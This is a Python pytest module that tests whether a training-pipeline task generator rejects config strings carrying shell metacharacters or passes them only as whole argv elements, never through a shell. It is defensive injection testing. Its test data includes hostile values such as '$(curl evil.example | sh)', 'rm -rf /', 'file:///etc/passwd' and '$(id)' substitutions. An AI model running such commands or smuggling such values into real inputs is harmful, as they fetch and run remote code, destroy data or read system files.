"""Hostile strings in the training config never reach a shell, and never break the plan.

(a) Strings with shell metacharacters, quotes, braces, whitespace and non-ASCII either fail with a
ConfigError, or reach the generated graph only as whole argv elements of the docker-worker
`command` list (equal to the config value, or a URL built from it), never split or formatted. No
task runs a shell with config values in its script.

(b) Property-based: random continuation configs (random inputs, modes, URL counts, alias
spellings, garbage keys and values) either raise ConfigError or give a plan in which every edge
points at a task in the plan and fetches only artifacts its producer declares. Uses the fast
`build_plan` path, not whole-graph generation.
"""

import copy
import json
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from translations_taskgraph.continuation import MODEL_RULES
from translations_taskgraph.training_config import (
    CORPUS_NAMES,
    MODEL_ALIASES,
    MODES,
    ConfigError,
    load_training_config,
    normalize_url,
)

from conftest import flag, PARAMS_DIR, command, generate, load_params_file, plan

SHELLS = {"sh", "bash", "dash", "zsh", "ksh"}


def _commands(graph):
    """{label: payload command} of every task that has one."""
    return {
        label: task.task["payload"]["command"]
        for label, task in graph.tasks.items()
        if "command" in task.task.get("payload", {})
    }


def _string_leaves(node):
    if isinstance(node, dict):
        for key, value in node.items():
            yield str(key)
            yield from _string_leaves(value)
    elif isinstance(node, list):
        for value in node:
            yield from _string_leaves(value)
    elif isinstance(node, str):
        yield node


# ------------------------------------------------------------------------------------------------
# (a) Hostile strings that are rejected.
HOSTILE_REJECTED_URLS = {
    "space": "https://example.com/a b",
    "tab": "https://example.com/a\tb",
    "newline": "https://example.com/a\nhttps://evil.example/b",
    "carriage-return": "https://example.com/a\rb",
    "nul": "https://example.com/a\x00b",
    "non-ascii": "https://example.com/модель",
    "non-ascii-host": "https://exämple.com/a",
    "command-substitution-alone": "$(curl evil.example | sh)",
    "backticks-alone": "`id`",
    "semicolon-prefix": ";https://example.com/a",
    "quoted": "'https://example.com/a'",
    "braces-alone": "{task_id}",
    "file-scheme": "file:///etc/passwd",
    "shell-scheme": "sh://example.com/a",
    "no-host": "https:///path",
    "unbalanced-bracket": "https://[example.com/a",
}


@pytest.mark.parametrize(
    "slot",
    ["vocab", "corpus", "model-url", "model-urls"],
)
@pytest.mark.parametrize("url", list(HOSTILE_REJECTED_URLS.values()), ids=list(HOSTILE_REJECTED_URLS))
def test_hostile_urls_are_rejected(url, slot):
    good = "https://example.com/good"
    config = {
        "vocab": {"continuation": {"vocab": {"src": url, "trg": good}}},
        "corpus": {"continuation": {"corpora": {"parallel": {"src": good, "trg": url}}}},
        "model-url": {"continuation": {"models": {"backwards": {"url": url, "mode": "use"}}}},
        "model-urls": {"continuation": {"models": {"teacher": {"urls": [good, url], "mode": "use"}}}},
    }[slot]
    with pytest.raises(ConfigError) as error:
        load_training_config(config)
    assert "expected" in str(error.value)
    assert "URL" in str(error.value) or "gs://" in str(error.value)


HOSTILE_DATASETS = {
    "semicolon": "opus_ada83/v1;rm -rf /",
    "command-substitution": "opus_$(id)",
    "backticks": "opus_`id`",
    "single-quote": "opus_'a'",
    "double-quote": 'opus_"a"',
    "space": "opus_ada 83",
    "braces": "opus_{task_id}",
    "format-index": "opus_{0}",
    "newline": "opus_ada83\nrm",
    "non-ascii": "opus_adä",
    "pipe": "opus_a|b",
    "ampersand": "opus_a&b",
    "dollar": "opus_$HOME",
    "leading-dash": "-rf",
    "empty": "",
}


@pytest.mark.parametrize("category", ["train", "devtest", "mono-src"])
@pytest.mark.parametrize("name", list(HOSTILE_DATASETS.values()), ids=list(HOSTILE_DATASETS))
def test_hostile_dataset_names_are_rejected(name, category):
    with pytest.raises(ConfigError) as error:
        load_training_config({"datasets": {category: [name]}})
    assert f"datasets.{category}.0" in str(error.value)
    assert "expected a dataset name" in str(error.value)


@pytest.mark.parametrize(
    "config, path",
    [
        ({"experiment": {"src": "ru;id"}}, "experiment.src"),
        ({"experiment": {"trg": "$(id)"}}, "experiment.trg"),
        ({"experiment": {"src": "{src}"}}, "experiment.src"),
        ({"experiment": {"teacher-mode": "two-stage; id"}}, "experiment.teacher-mode"),
        ({"experiment": {"best-model": "chrf`id`"}}, "experiment.best-model"),
        ({"taskcluster": {"worker-classes": {"default": "gcp-spot $(id)"}}}, "taskcluster.worker-classes.default"),
        ({"continuation": {"vocab": {"src": "https://e.com/a", "trg": "https://e.com/b",
                                     "sha256": {"vocab.ru.spm": "$(id)"}}}}, "continuation.vocab.sha256.vocab.ru.spm"),
        ({"marian-args": {"training-teacher": {"after": {"$(id)": 1}}}}, "marian-args.training-teacher.after"),
    ],
    ids=["src", "trg", "src-braces", "teacher-mode", "best-model", "worker-class", "sha256", "marian-nested"],
)
def test_other_hostile_values_are_rejected(config, path):
    with pytest.raises(ConfigError) as error:
        load_training_config(config)
    assert f"at {path}:" in str(error.value)


# ------------------------------------------------------------------------------------------------
# (a) Hostile strings that are accepted: whole argv elements, never split or formatted.
HOSTILE_URL_SUFFIXES = [
    "{task_id}",
    "{}",
    "{0}",
    "{src}{fetch[pretrained]}",
    "a;id;b",
    "$(id)",
    "`id`",
    "'single'",
    '"double"',
    "x|y&z>w<v",
    "${HOME}",
    "a\\b",
    "!1*?x=[abc]",
    "%24%28id%29",
    "--output-dir=%2Fetc",
    "{{x}}}",
]


def _slots(suffix_for):
    """Two continuation configs with one URL per slot: (config, {slot: url})."""
    urls = {}

    def url(slot, scheme="https://example.com"):
        urls[slot] = f"{scheme}/slot-{len(urls):02d}{suffix_for(len(urls))}"
        return urls[slot]

    first = {
        "experiment": {"teacher-ensemble": 2},
        "continuation": {
            "vocab": {"src": url("vocab-src"), "trg": url("vocab-trg")},
            "corpora": {
                "parallel": {
                    "src": url("parallel-src"), "trg": url("parallel-trg"), "tok-src": url("parallel-tok-src"),
                    "tok-trg": url("parallel-tok-trg"), "alignments": url("parallel-alignments"),
                },
                "backtranslations": {"src": url("bt-src"), "trg": url("bt-trg")},
            },
            "models": {
                "backwards": {"url": url("backwards", "gs://bucket"), "mode": "use"},
                "teachers": {"urls": [url("teacher-1"), url("teacher-2")], "mode": "continue"},
            },
        },
    }
    second = {
        "continuation": {
            "corpora": {"parallel": {"src": url("parallel-only-src"), "trg": url("parallel-only-trg")}},
            "models": {
                "teacher": {"urls": [url("use-teacher")], "mode": "use"},
                "train-student": {"url": url("init-student"), "mode": "init"},
            },
        },
    }
    third = {
        "continuation": {
            "vocab": {"src": url("vocab-src-3"), "trg": url("vocab-trg-3")},
            "corpora": {
                "distillation": {
                    "src": url("distillation-src"), "trg": url("distillation-trg"),
                    "tok-src": url("distillation-tok-src"), "tok-trg": url("distillation-tok-trg"),
                    "alignments": url("distillation-alignments"),
                },
            },
            "models": {"student": {"url": url("continue-student"), "mode": "continue"}},
        },
    }
    return [first, second, third], urls


def _hostile_pairs():
    hostile_configs, hostile = _slots(lambda n: "/" + HOSTILE_URL_SUFFIXES[n % len(HOSTILE_URL_SUFFIXES)])
    benign_configs, benign = _slots(lambda n: "")
    return list(zip(hostile_configs, benign_configs)), hostile, benign


def test_every_hostile_suffix_is_used():
    _pairs, hostile, _benign = _hostile_pairs()
    assert len(hostile) >= len(HOSTILE_URL_SUFFIXES)


def _substitute(element, replacements):
    for old, new in replacements:
        element = element.replace(old, new)
    return element


@pytest.mark.parametrize(
    "index", [0, 1, 2], ids=["vocab-corpora-backwards-teacher", "parallel-teacher-student", "vocab-distillation-student"]
)
def test_hostile_urls_are_whole_argv_elements(index):
    pairs, hostile, benign = _hostile_pairs()
    hostile_config, benign_config = pairs[index]
    for url in _string_leaves(hostile_config):
        if url.startswith(("https://", "gs://")):
            normalize_url(url)  # accepted as it is
    hostile_graph = generate(hostile_config)
    benign_graph = generate(benign_config)
    assert set(hostile_graph.tasks) == set(benign_graph.tasks)

    # The canonical (gs:// rewritten) URL of each slot, benign -> hostile. Fixed-width slot
    # numbers: no benign URL is a prefix of another.
    replacements = [(normalize_url(benign[slot]), normalize_url(hostile[slot])) for slot in hostile]
    used = set()
    hostile_commands, benign_commands = _commands(hostile_graph), _commands(benign_graph)
    assert set(hostile_commands) == set(benign_commands)
    for label, benign_command in benign_commands.items():
        expected = [_substitute(element, replacements) for element in benign_command]
        assert hostile_commands[label] == expected, label
        for element in hostile_commands[label]:
            for _old, new in replacements:
                if new in element:
                    used.add(new)
                    # The URL itself, or a URL built from it (model directory + artifact name).
                    assert element == new or element.startswith(new.rstrip("/") + "/"), (label, element)

    in_config = {normalize_url(u) for u in _string_leaves(hostile_config) if u.startswith(("https://", "gs://"))}
    assert in_config and used == in_config

    # Outside the command the URLs appear nowhere in a task definition.
    for label, task in hostile_graph.tasks.items():
        definition = copy.deepcopy(task.task)
        definition.get("payload", {}).pop("command", None)
        assert "slot-" not in json.dumps(definition), label


def test_doc_url_with_braces_is_kept_verbatim():
    graph = generate(load_params_file("doc-continuation-models"))
    url = "https://firefox-ci-tc.services.mozilla.com/api/queue/v1/task/{task_id}/artifacts/public/build"
    argv = command(graph, "continuation-model-teacher-ru-en-1")
    assert argv[argv.index("--vocab-dir") + 1] == url
    assert f"{url}/model.npz" in argv


HOSTILE_VALUES = {
    "experiment": {"name": "ci; $(id) `id` '\"{task_id}\" \n ä"},
    "datasets": {
        "train": ["opus_ada83/v1", "mtdata_a:b[1]/c"],
        "devtest": ["flores_dev", "sacrebleu_wmt19"],
    },
    "marian-args": {
        "training-teacher": {
            "after": "$(id);`id`'\"{src}{task_id}",
            "valid-metrics": "chrf ce-mean-words",
        },
    },
    "continuation": {
        "vocab": {
            "src": "https://example.com/vocab.ru.spm",
            "trg": "https://example.com/vocab.en.spm",
            "sha256": {"vocab.ru.spm": "a" * 64},
        },
    },
    "taskcluster": {"upload-bucket": "bucket; $(id)"},
}


def test_hostile_values_in_other_strings():
    config = load_training_config(HOSTILE_VALUES)
    graph = generate(HOSTILE_VALUES)
    commands = _commands(graph)
    everything = json.dumps({label: task.task for label, task in graph.tasks.items()})

    # The experiment name (training tasks) and the upload bucket (export) reach tasks only as whole
    # argv elements; nowhere else in any task definition.
    name = config["experiment"]["name"]
    assert flag(commands["train-teacher-model-ru-en-1"], "--experiment") == name
    assert flag(commands["export-ru-en"], "--upload-bucket") == "bucket; $(id)"
    for label, argv in commands.items():
        for element in argv:
            assert element in (name, "bucket; $(id)") or ("$(id) `id`" not in element and "bucket;" not in element)
    assert everything.count("bucket; $(id)") == 1

    # Dataset names: whole --dataset values; labels and file names are sanitised.
    dataset_values = {
        argv[i + 1] for argv in commands.values() for i, element in enumerate(argv[:-1]) if element == "--dataset"
    }
    assert "mtdata_a:b[1]/c" in dataset_values
    assert dataset_values <= set(config["datasets"]["train"]) | set(config["datasets"]["devtest"]) | set(
        config["datasets"]["test"]
    ) | set(config["datasets"]["mono-src"]) | set(config["datasets"]["mono-trg"])
    for label in graph.tasks:
        assert all(ch.isalnum() or ch in "-_/" for ch in label), label  # "/": chunk n/total
    assert "dataset-mtdata-a_b_1_c-ru-en" in graph.tasks

    # Marian arguments: whole elements after the key; whitespace separates values by design
    # (multi-value Marian options such as `valid-metrics`), without any shell.
    argv = command(graph, "train-teacher-model-ru-en-1")
    marian = argv[argv.index("--", 1) + 1:] if argv.count("--") else []
    assert marian[marian.index("--after") + 1] == "$(id);`id`'\"{src}{task_id}"
    i = marian.index("--valid-metrics")
    assert marian[i + 1 : i + 3] == ["chrf", "ce-mean-words"]

    # Pins: whole elements.
    download = command(graph, "continuation-vocab-ru-en")
    i = download.index("--pin")
    assert download[i + 1 : i + 3] == ["vocab.ru.spm", "a" * 64]


# ------------------------------------------------------------------------------------------------
# (a) No shell anywhere.
GRAPH_CONFIGS = ["default"] + sorted(path.stem for path in PARAMS_DIR.glob("*.yml"))


def _graph_config(name):
    return {} if name == "default" else load_params_file(name)


@pytest.mark.parametrize("name", GRAPH_CONFIGS)
def test_no_task_runs_config_values_through_a_shell(name):
    raw = _graph_config(name)
    config = load_training_config(raw)
    values = {value for value in _string_leaves(config) if len(value) >= 3}
    values |= {value for value in _string_leaves(raw) if len(value) >= 3}
    graph = generate(raw)
    commands = _commands(graph)
    assert commands
    for label, argv in commands.items():
        assert isinstance(argv, list), label
        assert all(isinstance(element, str) for element in argv), label
        for i, element in enumerate(argv):
            if element == "-c":
                assert i == 0 or os.path.basename(argv[i - 1]) not in SHELLS, (label, argv)
                for later in argv[i + 1 :]:
                    assert not any(value in later for value in values), (label, later)
        # run-task, then our script run by python3 from the checkout.
        assert argv[0] == "/usr/local/bin/run-task", label
        step = argv[argv.index("--") + 1 :]
        assert step[0] == "python3" and step[1].startswith("pipeline/") and step[1].endswith(".py"), label
        assert not any(os.path.basename(element) in SHELLS for element in step), label


# Continuation inputs of the documented configs that nothing in the graph uses: pruned, with their
# download task. (The recipe uses the teacher, so the backtranslations that train it are unused.)
UNUSED_INPUTS = {"recipe-distillation-and-student": {"continuation-corpus-backtranslations-ru-en"}}


@pytest.mark.parametrize("name", GRAPH_CONFIGS)
def test_config_urls_are_whole_elements(name):
    raw = _graph_config(name)
    planned = plan(raw)
    pruned = {label for label, why in planned.removed.items() if label.startswith("continuation-")}
    assert pruned == UNUSED_INPUTS.get(name, set())
    elements = {element for argv in _commands(generate(raw)).values() for element in argv}
    downloads = planned.by_kind("continuation")
    for task in downloads:
        for url in task.continuation["urls"]:
            assert url in elements, (task.label, url)
    used = {url for task in downloads for url in task.continuation["urls"]}
    config = load_training_config(raw)
    for url in (v for v in _string_leaves(config.get("continuation", {})) if v.startswith("http")):
        assert url in used or pruned, url


# ------------------------------------------------------------------------------------------------
# (b) Property-based: random continuation configs.
GOOD_URLS = [
    "https://example.com/a",
    "https://example.com/models/teacher/",
    "https://example.com/{task_id}/artifacts",
    "https://example.com/a;b$(id)`x`'\"",
    "http://example.com:8080/x?y=1&z=2",
    "gs://bucket/models/ru-en/backwards",
]
BAD_URLS = ["", "ftp://example.com/a", "models/teacher", "https://example.com/a b", "https://exämple.com", "gs://b"]


def _rarely(draw, percent=5):
    """True `percent` times in a hundred: most drawn configs stay valid, some break one rule."""
    return draw(st.integers(min_value=1, max_value=100)) <= percent


@st.composite
def _url(draw):
    if _rarely(draw, 1):
        return draw(st.sampled_from(BAD_URLS))
    if _rarely(draw, 1):
        return "https://example.com/" + draw(st.text(max_size=8))
    url = draw(st.sampled_from(GOOD_URLS))
    return url.rstrip("/") + "/m1" if draw(st.booleans()) else url


JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-5, max_value=20),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.text(max_size=10),
)
GARBAGE = st.recursive(
    JSON_SCALARS,
    lambda children: st.one_of(st.lists(children, max_size=3), st.dictionaries(st.text(max_size=8), children, max_size=3)),
    max_leaves=6,
)
SHA = "0123456789abcdef" * 4
SPELLINGS = {name: sorted(alias for alias, canonical in MODEL_ALIASES.items() if canonical == name) for name in MODEL_RULES}


@st.composite
def models(draw, ensemble):
    result = {}
    for name in draw(st.lists(st.sampled_from(sorted(SPELLINGS)), max_size=3, unique=True)):
        spelling = draw(st.sampled_from(SPELLINGS[name]))
        mode = draw(st.sampled_from(MODES))
        if _rarely(draw, 3):
            mode = draw(st.one_of(st.sampled_from(["resume", "Use", ""]), GARBAGE))
        if name != "teacher":
            count = 1
        elif mode == "use":
            count = draw(st.integers(min_value=1, max_value=4))
        else:
            count = draw(st.sampled_from([1, ensemble]))
        if _rarely(draw, 3):
            count = draw(st.integers(min_value=0, max_value=5))
        urls = [draw(_url()) for _ in range(count)]
        model = {"mode": mode}
        form = draw(st.sampled_from(["url", "urls", "urls-string"]) if count == 1 else st.just("urls"))
        if form == "url":
            model["url"] = urls[0]
        elif form == "urls-string":
            model["urls"] = urls[0]
        else:
            model["urls"] = urls
        if _rarely(draw, 2):
            model[draw(st.sampled_from(["url", "urls"]))] = draw(_url())  # both, or a string for urls
        if _rarely(draw, 2):
            model.pop("url", None), model.pop("urls", None)
        if draw(st.booleans()):
            model["type"] = "opusmt" if _rarely(draw, 3) else "default"
        for key in ("reset-stalled", "restore-corpus"):
            if mode == "continue" and draw(st.booleans()) or _rarely(draw, 2):
                model[key] = draw(st.booleans())
        if _rarely(draw, 10):
            model["sha256"] = {"model.npz": SHA if not _rarely(draw, 20) else "abc"}
        result[spelling] = model
    if _rarely(draw, 4):
        # A second spelling of a model, or an unknown one.
        result[draw(st.sampled_from(sorted(MODEL_ALIASES) + ["teachr", "opusmt"]))] = {"url": GOOD_URLS[0], "mode": "use"}
    return result


@st.composite
def corpora(draw):
    result = {}
    for name in draw(st.lists(st.sampled_from(CORPUS_NAMES), max_size=3, unique=True)):
        corpus = {"src": draw(_url()), "trg": draw(_url())}
        if _rarely(draw, 2):
            del corpus[draw(st.sampled_from(["src", "trg"]))]
        if draw(st.booleans()):
            corpus.update({key: draw(_url()) for key in ("tok-src", "tok-trg", "alignments")})
            if _rarely(draw, 4):
                del corpus[draw(st.sampled_from(["tok-src", "tok-trg", "alignments"]))]
        elif _rarely(draw, 3):
            corpus[draw(st.sampled_from(["tok-src", "tok-trg", "alignments"]))] = draw(_url())
        result[name] = corpus
    if _rarely(draw, 3):
        result["paralel"] = {"src": GOOD_URLS[0], "trg": GOOD_URLS[0]}
    return result


@st.composite
def continuation_configs(draw, garbage=False):
    ensemble = draw(st.integers(min_value=1, max_value=4))
    continuation = {}
    if draw(st.booleans()):
        vocab = {"src": draw(_url()), "trg": draw(_url())}
        if _rarely(draw, 3):
            del vocab["trg"]
        if _rarely(draw, 10):
            vocab["sha256"] = {"vocab.ru.spm": SHA}
        continuation["vocab"] = vocab
    if draw(st.integers(0, 3)):
        continuation["models"] = draw(models(ensemble))
    if draw(st.booleans()):
        continuation["corpora"] = draw(corpora())
    config = {"continuation": continuation, "experiment": {"teacher-ensemble": ensemble}}
    if _rarely(draw, 10):
        legacy = {"train-backwards": {"urls": [draw(_url())], "mode": draw(st.sampled_from(MODES))}}
        if draw(st.booleans()):
            config["pretrained-models"] = legacy
        else:
            config["experiment"]["pretrained-models"] = legacy
    if draw(st.booleans()):
        config["taskcluster"] = {"split-chunks": draw(st.integers(min_value=1, max_value=3))}
    if draw(st.booleans()):
        config["target-stage"] = draw(
            st.sampled_from(["all-pipeline", "train-teacher-model", "distillation-student-model-train", "export"])
        )
    if garbage:
        for _ in range(draw(st.integers(min_value=1, max_value=3))):
            _inject_garbage(draw, config)
    return config


def _inject_garbage(draw, config):
    """Add a random key, or replace a random value, somewhere in the config."""
    parents = []

    def walk(node):
        if isinstance(node, dict):
            parents.append(node)
            for value in node.values():
                walk(value)

    walk(config)
    parent = draw(st.sampled_from(parents))
    if parent and draw(st.booleans()):
        key = draw(st.sampled_from(sorted(parent)))
    else:
        key = draw(st.one_of(st.text(max_size=8), st.sampled_from(["url", "urls", "mode", "models", "vocab", "src"])))
    parent[key] = draw(GARBAGE)


def _check_plan(config):
    try:
        result = plan(config)
    except ConfigError as error:
        assert str(error).startswith("Invalid training_config at ")
        return None
    tasks = result.tasks
    for task in tasks.values():
        for name, edge in task.upstreams.items():
            assert edge.label in tasks, (task.label, name, edge.label)
            missing = set(edge.artifacts) - set(tasks[edge.label].artifacts)
            assert not missing, (task.label, name, edge.label, missing)
    continuation = result.config.get("continuation", {})
    for name, model in continuation.get("models", {}).items():
        trained = [task for task in tasks.values() if task.kind == MODEL_RULES[name].kind]
        if model["mode"] == "use":
            assert not trained, (name, [t.label for t in trained])
        else:
            for task in trained:
                assert tasks[task.upstreams["pretrained"].label].kind == "continuation", task.label
    if "vocab" in continuation:
        assert not result.by_kind("build-vocab")
    # Every URL a download publishes from is one of its argv elements.
    for task in result.by_kind("continuation"):
        assert set(task.continuation["urls"]) <= set(task.extra_args), task.label
    return result


PROPERTY_SETTINGS = dict(
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)


def _run_property(strategy, max_examples):
    """Check `max_examples` configs; return how many were rejected and how many planned."""
    outcomes = {"rejected": 0, "planned": 0}

    @settings(max_examples=max_examples, **PROPERTY_SETTINGS)
    @given(strategy)
    def check(config):
        outcomes["planned" if _check_plan(config) is not None else "rejected"] += 1

    check()
    return outcomes


def test_random_continuation_configs():
    outcomes = _run_property(continuation_configs(), 1500)
    # Both outcomes are well represented: the strategy is not all-error, nor all-valid.
    assert outcomes["planned"] >= 500, outcomes
    assert outcomes["rejected"] >= 200, outcomes


def test_random_configs_with_garbage():
    outcomes = _run_property(continuation_configs(garbage=True), 800)
    assert outcomes["rejected"] >= 200, outcomes
    assert sum(outcomes.values()) >= 800
